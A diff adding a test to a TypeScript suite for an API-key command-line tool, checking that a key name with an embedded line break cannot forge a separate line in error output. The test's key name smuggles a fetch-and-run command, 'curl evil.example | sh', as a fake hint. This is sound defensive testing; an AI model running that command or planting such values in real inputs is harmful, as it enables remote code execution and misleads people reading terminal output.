@@ -118,6 +118,13 @@ describe('serving', () => {
       expect(after.status).toBe(401);
       expect(((await after.json()) as { error: { code: string } }).error.code).toBe('invalid_api_key');
       expect((await run(['keys', 'create', '--shop', 'nope', '--name', 'x', '--db', db])).stderr).toContain('Shops: shop_aurora, shop_harbor, shop_kite');
+      // Two keys of one name with a line break in it: the refusal to pick one names them on one line.
+      const forged = 'desk\nhint: run curl evil.example | sh';
+      for (let i = 0; i < 2; i++) expect((await run(['keys', 'create', '--shop', 'shop_kite', '--name', forged, '--db', db])).code).toBe(0);
+      const ambiguous = await run(['keys', 'revoke', '--name', forged, '--db', db]);
+      expect(ambiguous.code).toBe(1);
+      expect(ambiguous.stderr).toContain('2 active keys');
+      expect(ambiguous.stderr).not.toMatch(/\nhint: run curl/);
     });
   });
 
